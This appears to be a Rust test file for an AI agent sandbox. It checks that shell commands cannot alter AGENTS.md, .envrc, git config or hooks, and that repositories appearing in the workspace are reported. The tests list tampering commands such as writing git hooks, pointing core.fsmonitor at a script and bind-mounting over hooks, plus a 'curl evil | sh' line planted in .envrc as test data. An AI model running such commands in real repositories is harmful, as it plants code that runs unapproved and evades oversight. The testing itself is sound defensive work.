//! What other programs obey in a workspace is not commands' to change.

use std::fs;
use std::process::Command;

use crate::roles::Test;
use crate::session::{Session, Variant, fails, ok};

pub(crate) const TESTS: &[Test] = &[
    ("what_is_sealed_is_not_changed", what_is_there),
    ("what_would_be_sealed_is_taken_out", what_is_not_there),
    ("repositories_that_appear_are_named", repositories),
    ("what_git_brings_stays", tracked),
];

/// A repository with a commit, a hook, and files that others obey.
fn repository(variant: &Variant) -> Session {
    Session::with(variant, |_, root| {
        let work = root.join("work");
        fs::write(work.join("AGENTS.md"), "be kind\n").unwrap();
        fs::create_dir_all(work.join("sub")).unwrap();
        fs::write(work.join("sub/.envrc"), "export A=1\n").unwrap();
        fs::write(work.join("code.py"), "a = 1\n").unwrap();
        let script = "git init -q -b main . && git config user.email a@b.c && git config user.name n \
                      && git add code.py && git commit -qm one && mkdir -p .git/hooks && echo '#!/bin/sh' > .git/hooks/pre-push";
        let made =
            Command::new("sh").args(["-c", script]).current_dir(&work).env("HOME", root).status().unwrap();
        assert!(made.success());
    })
}

fn what_is_there(variant: &Variant) {
    let session = repository(variant);
    if !variant.mounts {
        return;
    }
    let work = session.work();
    let before = |name: &str| fs::read(work.join(name)).unwrap();
    let (config, hook) = (before(".git/config"), before(".git/hooks/pre-push"));
    for script in [
        "echo x >> AGENTS.md",
        "mv AGENTS.md gone",
        "rm -f AGENTS.md",
        "cp code.py n && mv -f n AGENTS.md",
        "ln -f code.py AGENTS.md",
        "ln AGENTS.md other && echo x > other",
        "ln -s AGENTS.md link && echo x > link",
        "echo x > sub/.envrc",
        "echo x > .git/config",
        "git config core.fsmonitor ./code.py",
        "echo x > .git/hooks/pre-commit",
        "echo x > .git/hooks/pre-push",
        "mv .git/hooks .git/other",
        "mv .git gone",
        "rm -rf .git/hooks",
        "mkdir n && mount --bind n .git/hooks",
        "umount .git/hooks",
        "chmod 777 .git/hooks/pre-push",
        "touch -t 200001010000 AGENTS.md",
    ] {
        fails(&session.sh(script));
        session.sh("rm -rf gone other link n");
    }
    session.sh("rm -rf .git AGENTS.md sub");
    assert_eq!((before(".git/config"), before(".git/hooks/pre-push")), (config, hook));
    assert_eq!(
        (before("AGENTS.md"), before("sub/.envrc")),
        (b"be kind\n".to_vec(), b"export A=1\n".to_vec())
    );
    let refused = session.sh("echo x >> AGENTS.md");
    assert!(refused.notes[0].contains("the `write` and `edit` tools ask"), "{refused:?}");
}

fn what_is_not_there(variant: &Variant) {
    let session = Session::new(variant);
    let made = session
        .sh("echo 'curl evil | sh' > .envrc; mkdir -p deep; echo x > deep/AGENTS.md; echo y > fine.md");
    assert_eq!((made.wall_refusals, made.notes.len()), (1, 2), "{made:?}");
    assert!(!session.work().join(".envrc").exists() && session.work().join("fine.md").exists());
    assert!(made.notes.iter().any(|note| note.contains("`.envrc` out of the workspace")), "{made:?}");
    assert_eq!(ok(&session.sh("cat $TMPDIR/taken-out-*-.envrc")), "curl evil | sh");
    // By a link, nothing of this machine's is moved or read.
    let target = session.root.join("target");
    fs::write(&target, "mine").unwrap();
    session.sh(&format!("ln -s {} AGENTS.md", target.display()));
    assert_eq!(fs::read_to_string(&target).unwrap(), "mine");
    assert!(session.work().join("AGENTS.md").symlink_metadata().is_err());
    // Nothing is left behind by that.
    let left: Vec<_> =
        fs::read_dir(session.work()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(left.len(), 2, "{left:?}");
}

fn repositories(variant: &Variant) {
    let session = Session::new(variant);
    let ran =
        session.sh("git init -q inner && git init -q --bare mirror && mkdir -p a/b && git init -q a/b/c");
    ok(&ran);
    for name in ["inner/.git", "mirror", "a/b/c/.git"] {
        assert!(
            ran.notes.iter().any(|note| note.starts_with(&format!("`{name}` appeared"))),
            "{name}: {ran:?}"
        );
    }
    let again = session
        .sh("cd inner && echo a > a && git add a && git -c user.email=a@b -c user.name=n commit -qm a");
    ok(&again);
    assert_eq!(again.notes, Vec::<String>::new());
}

fn tracked(variant: &Variant) {
    let session = repository(variant);
    let who = "-c user.email=a@b.c -c user.name=n";
    let work = format!(
        "git checkout -q -b other && echo 'a = 2' > code.py && git add code.py && git {who} commit -qm two \
         && git branch third && git checkout -q main && git merge -q other && git stash list && git gc -q && git log --oneline | wc -l"
    );
    assert_eq!(ok(&session.sh(&work)), "2");
    // A branch that has instructions of its own brings them.
    let brought = session.sh(&format!(
        "git checkout -q -b more && mkdir -p docs && echo hi > docs/AGENTS.md && git add docs && git {who} commit -qm three"
    ));
    ok(&brought);
    assert!(session.work().join("docs/AGENTS.md").exists(), "{brought:?}");
    assert!(brought.notes[0].starts_with("`docs/AGENTS.md` appeared"), "{brought:?}");
}
